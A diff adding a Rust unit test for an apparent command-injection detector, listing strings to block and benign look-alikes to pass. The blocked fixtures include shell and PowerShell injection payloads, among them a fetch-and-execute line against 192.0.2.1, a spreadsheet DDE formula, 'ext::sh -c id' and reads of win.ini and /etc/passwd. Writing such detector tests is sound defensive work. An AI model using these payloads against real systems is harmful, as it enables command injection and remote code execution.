@@ -281,3 +281,45 @@ fn names_that_are_no_commands() {
     let redirections = ">/tmp/x ".repeat(40);
     check(&format!("; {redirections} cat {redirections} /etc/passwd"), "semicolon reading sensitive-file");
 }
+
+#[test]
+fn short_ones() {
+    for (text, wanted) in [
+        (";reboot;", "semicolon bare-word"),
+        ("`reboot`", "substitution bare-word"),
+        ("&set", "ampersand bare-word"),
+        ("x & set /a 7*7", "ampersand recon option"),
+        ("|gci", "pipe listing bare"),
+        ("$(gc C:\\Windows\\win.ini)", "substitution reading sensitive-file"),
+        (";iex(iwr 192.0.2.1/a)", "semicolon cmdlet expansion"),
+        (";eval id", "semicolon interpreter argument"),
+        (";expr 7 \\* 191", "semicolon recon number"),
+        ("& start calc", "ampersand prefixed bare-word"),
+        ("whoami /priv", "whole recon option"),
+        ("$((71*13))", "computed"),
+        (";$env:USERNAME", "variable"),
+        ("ext::sh -c id", "option-injection"),
+        ("=cmd|' /C calc'!A0", "spreadsheet"),
+    ] {
+        blocks(Class::Command, text, wanted);
+    }
+    for text in [
+        "dinner & set",
+        "set -e",
+        "12 pieces & set of 2",
+        "Use `reboot` to restart it",
+        "EUR|GCI|JER",
+        "$((i+1))",
+        "total=$((3*4))",
+        "cd x; $env:NODE_ENV='test'; npm run build",
+        "$env:PATH",
+        "text::extended",
+        "a|'b'!",
+        "calc & notes",
+    ] {
+        passes(Class::Command, text);
+    }
+    let host =
+        |text: &[u8]| crate::detectors::testing::look(Class::Command, Place::MultipartField, "host", text).1;
+    assert!(host(b"a\r\nid\r\n") && !host(b"a\r\nname\r\n"));
+}
